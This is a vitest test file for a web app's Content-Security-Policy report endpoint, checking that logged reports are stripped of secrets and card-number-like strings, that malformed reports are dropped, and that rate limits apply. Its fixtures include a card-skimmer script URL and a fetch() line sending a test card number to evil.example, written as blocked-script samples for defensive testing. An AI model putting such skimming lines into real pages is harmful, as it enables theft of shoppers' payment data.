import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from "vitest";
import { routes } from "@/app/routes.generated";
import { env } from "@/lib/env";
import { policyHeaders } from "@/lib/http/csp-reports";
import { newSecret } from "@/lib/ids";
import { log } from "@/lib/log";
import { limits } from "@/lib/rate-limits/spend-slot";
import { openHost } from "@/lib/testing/http";
import { someAddress } from "@/lib/testing/shop";

const host = openHost(routes);
const warn = vi.spyOn(log, "warn");
beforeEach(() => void warn.mockClear());
const { APP_URL } = env;
beforeAll(() => void Object.assign(env, { APP_URL: OURS }));
afterAll(() => void Object.assign(env, { APP_URL }));

const OURS = "http://ours.example";
const PAGE = "http://ours.example/fields?key=pk_test_secret&parent=https://loja.example#style";

/** A report as Chromium and Firefox send it to `report-uri`. */
const byUri = (changes: object = {}) => ({
  "csp-report": {
    "document-uri": PAGE,
    referrer: "https://loja.example/",
    "violated-directive": "script-src-elem",
    "effective-directive": "script-src-elem",
    "original-policy": "default-src 'none'; report-uri /csp-reports",
    disposition: "enforce",
    "blocked-uri": "https://evil.example/skim.js?card=4111111111111111",
    "line-number": 7,
    "column-number": 97,
    "source-file": PAGE,
    "status-code": 200,
    "script-sample": "fetch('https://evil.example/4111111111111111')",
    ...changes,
  },
});

/** A report as Chromium sends it to an endpoint of `report-to`. */
const byApi = (changes: object = {}) => ({
  age: 81,
  type: "csp-violation",
  url: PAGE,
  user_agent: "Mozilla/5.0",
  body: {
    blockedURL: "https://evil.example/skim.js?card=4111111111111111",
    columnNumber: 295,
    disposition: "enforce",
    documentURL: PAGE,
    effectiveDirective: "script-src-elem",
    lineNumber: 7,
    originalPolicy: "default-src 'none'; report-to csp",
    referrer: "https://loja.example/",
    sample: "fetch('https://evil.example/4111111111111111')",
    sourceFile: PAGE,
    statusCode: 200,
    ...changes,
  },
});

const URI = "application/csp-report";
const API = "application/reports+json";

/** Sends a report. Returns the answer and the logged lines. */
async function report(body: unknown, type = URI, headers: Record<string, string> = {}) {
  const {
    status,
    text,
    headers: answered,
  } = await host.ask("POST", "/csp-reports", {
    body,
    headers: { "content-type": type, ...headers },
  });
  const lines = warn.mock.calls.map(([line]) => line as unknown as Record<string, unknown>);
  return { status, text, headers: answered, lines };
}

const LINE = {
  directive: "script-src-elem",
  blocked: "https://evil.example/skim.js",
  document: `${OURS}/fields`,
  source: `${OURS}/fields`,
  line: 7,
};

describe("a report of what a policy blocked", () => {
  test("is logged without the secret of a link that is in the page's path", async () => {
    const secret = newSecret();
    const { lines } = await report(byUri({ "document-uri": `${OURS}/reset/${secret}` }));
    expect(lines).toMatchObject([{ document: `${OURS}/reset/…` }]);
    expect(JSON.stringify(lines)).not.toContain(secret);
  });

  test.each([
    ["report-uri", byUri(), URI],
    ["report-uri, as older browsers name it", byUri({ "violated-directive": "script-src-elem 'self'" }), URI],
    ["report-to", [byApi()], `${API}; charset=utf-8`],
  ])("by %s is logged as one line: the directive, and addresses without query and fragment", async (_, body, type) => {
    const { status, text, headers, lines } = await report(body, type);
    expect([status, text]).toEqual([204, ""]);
    expect(lines).toEqual([{ requestId: headers.get("x-request-id"), ...LINE }]);
  });

  test.each([
    ["inline", "inline"],
    ["data:text/javascript,steal(4111111111111111)", "data:"],
    ["chrome-extension://abcdef/x.js", "chrome-extension:"],
    ["https://a:b@evil.example:8443/x;4111111111111111", "https://evil.example:8443/x;…"],
    ["https://evil.example/4111%201111%201111%201111/x", "https://evil.example/…/x"],
    ["https://evil.example/4111-1111-1111-1111", "https://evil.example/…"],
    ["https://evil.example/%zz", "https://evil.example/%zz"],
    [`https://evil.example/${"x".repeat(900)}`, `https://evil.example/${"x".repeat(279)}`],
    ["https://4111111111111111.evil.example/x", "https://….evil.example/x"],
    ["a4111111111111111:x", "a…:"],
    ["4111111111111111", undefined],
    ["", undefined],
  ])("names what was blocked, %s, as %s", async (blocked, logged) => {
    const { lines } = await report(byUri({ "blocked-uri": blocked, "source-file": blocked }));
    expect(lines).toMatchObject([{ blocked: logged, source: logged, document: LINE.document }]);
  });

  test("that lacks source and line is logged without them", async () => {
    const { lines } = await report(byUri({ "source-file": undefined, "line-number": undefined }));
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatchObject({ source: undefined, line: undefined, blocked: LINE.blocked });
  });

  test("is logged if it is among the first ten of a request", async () => {
    const { status, lines } = await report(
      Array.from({ length: 14 }, () => byApi({ originalPolicy: "" })),
      API,
    );
    expect([status, lines.length]).toEqual([204, 10]);
  });

  test.each<[string, unknown, string]>([
    ["that is no JSON", '{"csp-report":', URI],
    ["that is empty", "", URI],
    ["of another shape", { "csp-report": "4111111111111111" }, URI],
    ["with a malformed directive", byUri({ "violated-directive": 4_111_111_111_111_111 }), URI],
    ["with a line that may be a card's number", byUri({ "line-number": 378_282_246_310_005 }), URI],
    ["of another kind", [{ ...byApi(), type: "deprecation" }], API],
    ["under the other's media type", byUri(), API],
    ["of a page that is not ours", byUri({ "document-uri": "https://ours.example.evil.example/x" }), URI],
    ["of no page", byUri({ "document-uri": undefined }), URI],
    ["under a media type that a foreign page could send", byUri(), "text/plain"],
    ["of more than 16 kB", byUri({ "script-sample": "x".repeat(16_000) }), URI],
  ])("%s gets the same answer and is not logged", async (_, body, type) => {
    const { status, text, lines } = await report(body, type);
    expect([status, text, lines]).toEqual([204, "", []]);
  });

  test("is accepted only by POST, and no answer allows a foreign page to send one", async () => {
    const get = await host.ask("GET", "/csp-reports");
    expect([get.status, get.headers.get("allow")]).toEqual([405, "POST"]);
    const asks = { origin: "https://evil.example", "access-control-request-method": "POST" };
    const preflight = await host.ask("OPTIONS", "/csp-reports", { headers: asks });
    expect([preflight.status, preflight.headers.get("access-control-allow-origin")]).toEqual([405, null]);
  });

  test("spends a slot of its address's limit, and none of another address's", async () => {
    const before = env.TRUSTED_PROXIES;
    Object.assign(env, { TRUSTED_PROXIES: 1 });
    try {
      const [one, other] = [someAddress(), someAddress()];
      const from = (address: string) => report("{}", URI, { "x-forwarded-for": address });
      for (let turn = 0; turn < limits["csp-report-address"](); turn++) expect((await from(one)).status).toBe(204);
      const refused = await from(one);
      expect(refused.status).toBe(429);
      expect(Number(refused.headers.get("retry-after"))).toBeGreaterThan(0);
      expect((await from(other)).status).toBe(204);
    } finally {
      Object.assign(env, { TRUSTED_PROXIES: before });
    }
  });
});

test("a policy names both ways to report, and only report-uri where we have no TLS", () => {
  const before = env.APP_URL;
  try {
    Object.assign(env, { APP_URL: "https://pay.example" });
    expect(policyHeaders(["default-src 'none'"])).toEqual({
      "content-security-policy": "default-src 'none'; report-uri /csp-reports; report-to csp",
      "reporting-endpoints": 'csp="/csp-reports"',
    });
    Object.assign(env, { APP_URL: "http://localhost:3000" });
    expect(policyHeaders(["default-src 'none'"])).toEqual({
      "content-security-policy": "default-src 'none'; report-uri /csp-reports",
    });
  } finally {
    Object.assign(env, { APP_URL: before });
  }
});
